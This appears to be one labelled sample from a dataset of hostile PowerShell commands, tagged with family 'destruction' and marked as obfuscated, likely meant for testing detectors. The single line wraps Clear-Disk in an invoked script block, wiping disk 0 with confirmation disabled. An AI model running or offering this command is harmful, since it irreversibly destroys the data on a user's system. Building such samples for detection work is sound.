# description: Wraps Clear-Disk in a script block and calls .Invoke() on it.
# family: destruction
# obfuscated: yes
{ Clear-Disk -Number 0 -RemoveData -RemoveOEM -Confirm:$false }.Invoke()
